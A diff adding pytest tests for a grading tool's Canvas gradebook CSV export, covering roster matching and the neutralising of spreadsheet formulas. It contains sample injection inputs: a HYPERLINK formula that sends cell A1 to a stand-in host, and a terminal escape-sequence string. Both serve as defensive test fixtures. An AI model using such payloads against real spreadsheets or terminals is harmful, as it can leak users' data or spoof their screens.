@@ -1,0 +1,145 @@
+"""Grades for the LMS: Canvas's gradebook-import CSV, the roster matching rule, nothing dropped silently,
+and no formula a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from grader.batch import export, roster
+from grader.__main__ import main
+from handmade_class import class_documents, document, write_out
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+
+# Canvas's own export: a byte-order mark, a "Points Possible" row, other assignments' columns.
+ROSTER = (
+    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (111)\r\n"
+    "    Points Possible,,,,,10\r\n"
+    '"Doe, Jane",1001,U1,s1,Section A,9\r\n'  # s1 by SIS Login ID
+    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",1002,s2,login2,Section A,\r\n'  # s2 by SIS User ID
+    "Carol Three,s3,U3,login3,Section B,7\r\n"  # s3 by ID
+    "Nobody Handed-In,1004,U4,login4,Section B,\r\n"  # no submission
+)
+
+
+@pytest.fixture
+def out(tmp_path):
+    documents = class_documents()
+    documents["stranger"] = document("stranger", 2, True)  # not on the roster
+    return write_out(tmp_path / "out", documents)
+
+
+@pytest.fixture
+def roster_file(tmp_path):
+    path = tmp_path / "roster.csv"
+    path.write_bytes(ROSTER.encode("utf-8"))
+    return path
+
+
+def export_csv(out, roster_file, tmp_path, *options: str) -> str:
+    target = tmp_path / "grades.csv"
+    status = main(["export", str(out), "--roster", str(roster_file), "--assignment", "Attention (12345)", "--out", str(target), *options])
+    assert status == 0
+    return target.read_bytes().decode("utf-8")  # as written: the CSV's line ends are \r\n
+
+
+def test_the_canvas_file_is_exactly_the_import_format(out, roster_file, tmp_path):
+    text = export_csv(out, roster_file, tmp_path, "--points", "10")
+    assert text.split("\r\n") == [
+        "Student,ID,SIS User ID,SIS Login ID,Section,Attention (12345)",
+        "    Points Possible,,,,,10",
+        '"Doe, Jane",1001,U1,s1,Section A,8',  # 4/5 of 10
+        '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Click"")",1002,s2,login2,Section A,6',
+        "Carol Three,s3,U3,login3,Section B,4",
+        "Nobody Handed-In,1004,U4,login4,Section B,",  # no submission: empty, not 0
+        "",
+    ]
+
+
+def test_scores_are_scaled_to_100_by_default(out, roster_file, tmp_path):
+    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path))))
+    assert rows[1] == ["    Points Possible", "", "", "", "", "100"]
+    assert [row[-1] for row in rows[2:]] == ["80", "60", "40", ""]
+
+
+def test_unmatched_students_are_listed_on_the_terminal_in_export_json_and_in_the_report(out, roster_file, tmp_path, capsys):
+    export_csv(out, roster_file, tmp_path)
+    printed = capsys.readouterr().out
+    assert "3 of 4 roster students have a submission" in printed
+    assert "Nobody Handed-In (SIS Login ID login4, SIS User ID U4, ID 1004)" in printed
+    assert "2 submissions not on the roster" in printed and "  s4: " in printed and "  stranger: " in printed
+    record = json.loads((out / "export.json").read_text(encoding="utf-8"))
+    assert record["matched_by"] == {"s1": "SIS Login ID", "s2": "SIS User ID", "s3": "ID"}
+    assert [entry["submission"] for entry in record["submissions_not_on_roster"]] == ["s4", "stranger"]
+    page = (out / "report.html").read_text(encoding="utf-8")
+    assert "Nobody Handed-In" in page and '<a href="feedback/stranger.html">stranger</a>' in page
+
+
+def test_the_plain_format_has_the_roster_columns_the_score_and_the_points_per_group(out, roster_file, tmp_path):
+    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path, "--format", "plain"))))
+    assert rows[0] == [
+        "Student", "ID", "SIS User ID", "SIS Login ID", "Section", "submission", "score (of 100)",
+        "1. shapes (of 2)", "2. probabilities (of 2)", "6. configuration (of 1)",
+    ]
+    assert rows[1] == ["Doe, Jane", "1001", "U1", "s1", "Section A", "s1", "80", "2", "2", "0"]
+    assert rows[4] == ["Nobody Handed-In", "1004", "U4", "login4", "Section B", "", "", "", "", ""]
+
+
+def test_the_login_id_wins_over_the_sis_user_id_and_the_canvas_id():
+    rows = [
+        {"Student": "By ID", "ID": "x", "SIS User ID": "", "SIS Login ID": ""},
+        {"Student": "By user id", "ID": "2", "SIS User ID": "X", "SIS Login ID": ""},
+        {"Student": "By login", "ID": "3", "SIS User ID": "", "SIS Login ID": "x"},
+    ]
+    found = roster.match(["x"], rows)
+    assert found.submission_of_row == {2: "x"} and found.matched_by == {"x": "SIS Login ID"}
+    found = roster.match(["x"], rows[:2])
+    assert found.submission_of_row == {1: "x"} and found.matched_by == {"x": "SIS User ID"}
+
+
+def test_matching_ignores_case_and_reads_canvas_download_names():
+    rows = [{"Student": "Jane", "ID": "4242", "SIS User ID": "", "SIS Login ID": "JDoe"}, {"Student": "Kim", "ID": "77", "SIS User ID": "", "SIS Login ID": ""}]
+    found = roster.match(["jdoe", "kimlee_late_77_31415_multi_head_attention"], rows)
+    assert found.submission_of_row == {0: "jdoe", 1: "kimlee_late_77_31415_multi_head_attention"}
+
+
+def test_a_second_submission_for_the_same_student_is_reported_not_dropped():
+    rows = [{"Student": "Jane", "ID": "4242", "SIS User ID": "u1", "SIS Login ID": "jdoe"}]
+    found = roster.match(["jdoe", "u1"], rows)
+    assert found.submission_of_row == {0: "jdoe"}
+    assert "already matched by jdoe" in found.not_on_roster["u1"]
+
+
+def test_a_file_without_the_id_columns_is_refused_with_a_reason(out, tmp_path, capsys):
+    wrong = tmp_path / "wrong.csv"
+    wrong.write_text("name,grade\nJane,9\n", encoding="utf-8")
+    status = main(["export", str(out), "--roster", str(wrong), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
+    assert status == 2 and "none of the columns SIS Login ID, SIS User ID, ID" in capsys.readouterr().err
+    assert not (tmp_path / "g.csv").exists()
+
+
+@pytest.mark.parametrize("cell", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "＝1+2"])
+def test_a_cell_that_would_start_a_formula_is_neutralised(cell):
+    assert export.neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Jane Doe", "-3", "+4", "12.5", "", "a=b", "O'Brien"])
+def test_text_and_plain_numbers_are_left_as_they_are(cell):
+    assert export.neutralise(cell) == cell
+
+
+def test_a_submission_named_as_a_formula_is_neutralised_in_the_plain_file(tmp_path):
+    documents = {"@SUM(1)": document("@SUM(1)", 2, True)}
+    out = write_out(tmp_path / "out", documents)
+    roster_file = tmp_path / "roster.csv"
+    roster_file.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nJ,1,,@sum(1),A\n", encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path, "--format", "plain"))))
+    assert rows[1][:7] == ["J", "1", "", "'@sum(1)", "A", "'@SUM(1)", "80"]
+
+
+def test_the_terminal_shows_control_characters_as_escapes():
+    assert export.printable("eve\x1b]0;owned\x07\nx") == "eve\\x1b]0;owned\\x07\\x0ax"
